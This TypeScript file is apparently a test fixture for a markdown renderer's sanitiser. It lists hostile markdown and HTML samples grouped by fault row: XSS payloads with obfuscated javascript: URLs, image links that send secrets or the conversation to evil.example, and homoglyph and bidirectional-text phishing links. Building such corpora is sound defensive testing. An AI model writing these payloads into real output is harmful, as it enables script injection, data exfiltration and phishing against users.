/** What a model may be led to write, by the row of the fault catalogue that it belongs to. */
export const hostileMarkdown: readonly (readonly [row: string, text: string])[] = [
  ["X1", "<script>window.__xss = 1</script>"],
  ["X1", '<img src=x onerror="window.__xss = 1">'],
  ["X1", "<svg onload=window.__xss=1><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>"],
  [
    "X1",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>",
  ],
  ["X1", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  [
    "X1",
    "<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b)}</style>",
  ],
  ["X1", "<details open ontoggle=window.__xss=1><summary>a</summary></details>"],
  [
    "X1",
    "<a href=javascript:window.__xss=1>a</a> <form action=javascript:window.__xss=1><button>b</button></form>",
  ],
  ["X1", "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>"],
  [
    "X1",
    "text <b onmouseover=window.__xss=1>**bold**</b> <![CDATA[<script>1</script>]]> <?php x ?> <!DOCTYPE html>",
  ],
  ["X1", "<!-- --><script>window.__xss=1</script><!-- -->"],
  ["X1", "`<script>window.__xss=1</script>` and ``<img src=x onerror=window.__xss=1>``"],
  ["X1", "```html\n<script>window.__xss=1</script>\n</code></pre><script>window.__xss=1</script>\n```"],
  ["X1", '```"><script>window.__xss=1</script>\ncode\n```'],
  ["X1", "| <script>window.__xss=1</script> | b |\n| - | - |\n| <img src=x onerror=window.__xss=1> | c |"],
  ["X1", "&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;"],
  [
    "X1",
    "# <img src=x onerror=window.__xss=1>\n\n> <svg/onload=window.__xss=1>\n\n- <script>window.__xss=1</script>",
  ],
  ["X2", "[a](javascript:window.__xss=1)"],
  ["X2", "[a](JaVaScRiPt:window.__xss=1) [b]( javascript:window.__xss=1 ) [c](<javascript:window.__xss=1>)"],
  [
    "X2",
    "[a](java&Tab;script&colon;window.__xss=1) [b](&#106;avascript:window.__xss=1) [c](javascript&#58;window.__xss=1)",
  ],
  [
    "X2",
    "[a](<java\tscript:window.__xss=1>) [b](java\u0000script:window.__xss=1) [c](\u0001javascript:window.__xss=1)",
  ],
  [
    "X2",
    "[a](java\\script:window.__xss=1) [b](javascript\\:window.__xss=1) [c](%6Aavascript:window.__xss=1)",
  ],
  ["X2", "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)"],
  [
    "X2",
    "[a](vbscript:msgbox) [b](blob:https://evil.example/1) [c](file:///etc/passwd) [d](filesystem:https://a/b)",
  ],
  [
    "X2",
    "[a](//evil.example) [b](/\\evil.example) [c](\\\\evil.example) [d](http:evil.example) [e](https:/evil.example)",
  ],
  ["X2", "[a][x] [x]\n\n[x]: javascript:window.__xss=1"],
  ["X2", "[a][x]\n\n[x]: <java&NewLine;script:window.__xss=1> 'title'"],
  [
    "X2",
    '[a](https://ok.example "onmouseover=window.__xss=1") [b](https://ok.example\' onclick=window.__xss=1)',
  ],
  [
    "X2",
    '[a](https://ok.example/"onmouseover="window.__xss=1) [b](https://ok.example/`><script>window.__xss=1</script>)',
  ],
  [
    "X2",
    "[a](https://user:pass@evil.example) [b](https://bank.example@evil.example) [c](intent://evil.example#Intent;end)",
  ],
  [
    "X2",
    "[a](view-source:javascript:1) [b](feed:javascript:window.__xss=1) [c](jar:javascript:1) [d](x:javascript:1)",
  ],
  ["X3", "![a](https://evil.example/a.png?q=secret)"],
  ["X3", "![a][x] ![x] ![][x]\n\n[x]: https://evil.example/a.png"],
  [
    "X3",
    "![a](<https://evil.example/a.png>) ![b](http:evil.example/b.png) ![c](&#104;ttps://evil.example/c.png)",
  ],
  [
    "X3",
    "[![a](https://evil.example/a.png)](https://evil.example) [![a][x]][x]\n\n[x]: https://evil.example/x.png",
  ],
  ["X3", "| ![a](https://evil.example/a.png) |\n| - |\n| ![b](https://evil.example/b.png) |"],
  [
    "X3",
    "- ![a](https://evil.example/a.png)\n\n> ![b](https://evil.example/b.png)\n\n# ![c](https://evil.example/c.png)",
  ],
  ["X3", "a[^1]\n\n[^1]: ![b](https://evil.example/b.png)"],
  ["X3", "![a](//evil.example/a.png) ![b](/b.png) ![c](c.png) ![d](data:image/svg+xml;base64,PHN2Zy8+)"],
  [
    "X3",
    '![a](https://evil.example/a.png "t" =100x100) ![b](https://evil.example/b.png){srcset=https://evil.example/c}',
  ],
  [
    "X3",
    "<img src=https://evil.example/a.png srcset='https://evil.example/b 2x'><picture><source srcset=//evil.example/c></picture>",
  ],
  [
    "X3",
    "<link rel=preload as=image href=https://evil.example/a><video poster=//evil.example/b><object data=//evil.example/c>",
  ],
  [
    "X3",
    "![![a](https://evil.example/a.png)](https://evil.example/b.png) **![c](https://evil.example/c.png)**",
  ],
  ["X3", "![a\nb](https://evil.example/a.png) ![`a`*b*](https://evil.example/b.svg)"],
  ["X4", "[the report](https://evil.example/?q=everything+the+user+has+said+so+far)"],
  ["X4", `[more](https://evil.example/${"s".repeat(60)}) <https://evil.example/?q=${"t".repeat(40)}>`],
  ["X5", "www.evil.example http://evil.example a@evil.example javascript://%0awindow.__xss=1"],
  [
    "X5",
    "<javascript:window.__xss=1> <javascript://%0awindow.__xss=1> <data:text/html,x> <mailto:a@b.example>",
  ],
  [
    "X5",
    "https://evil.example/<script>window.__xss=1</script> https://evil.example/'onclick='window.__xss=1'",
  ],
  [
    "X5",
    "ftp://evil.example xmpp:a@b.example ws://evil.example HTTPS://EVIL.EXAMPLE https://evil.example)])}",
  ],
  [
    "X6",
    "[bank.com](https://evil.example) [https://bank.com](https://evil.example) [bank.com](https://bank.com.evil.example)",
  ],
  ["X6", "[аррӏе.com](https://аррӏе.com) [apple.com](https://аррӏе.com) https://аррӏе.com/login"],
  [
    "X6",
    "[moc.knab\u202E](https://evil.example) [\u2066bank.com\u2069](https://evil.example) [\u200Fbank.com](https://evil.example)",
  ],
  [
    "X6",
    "[pay\u200Bpal.com](https://evil.example) [pay\u00ADpal.com](https://evil.example) [pay\u{E0070}pal.com](https://evil.example)",
  ],
  [
    "X6",
    "https://bank.com\u202E/moc.live https://bank.com\u200B.evil.example https://bank.com\u{E002E}evil.example",
  ],
  ["X6", "\u202Egnp.exe [a\u202Eb](https://evil.example/\u202Egpj.exe) `a\u202Eb`"],
  ["X8", "# body\n\n## __proto__\n\n### getElementById\n\n<a name=body id=location>x</a>"],
  ["X8", "[a](#location){#cookie} # constructor {#document}"],
  ["X8", "- [x] <input name=attributes>\n- [ ] <form id=test><input name=parentNode>"],
  ["X9", "[a](java"],
  ["X9", "[a](https://evil.example/](javascript:window.__xss=1)"],
  ["X9", "![a](https://evil.example/a.pn\n\n[b](javascript:window.__xss=1"],
  ["X9", "**[a *b](javascript:window.__xss=1)* `c](https://evil.example)`"],
  ["X9", "```js\nwindow.__xss=1\n``\n<script>window.__xss=1</script>"],
  ["X9", "| a | [b](javascript:window.__xss=1) |\n| - | - |\n| <script | >window.__xss=1</script> |"],
  ["X9", "[x]: javascript:window.__xss=1\n[x]\n\n[x]: https://evil.example\n[x]"],
  ["X9", '<a href="javascript:window.__xss=1\n\n">a</a> [b](<https://evil.example\n>)'],
];
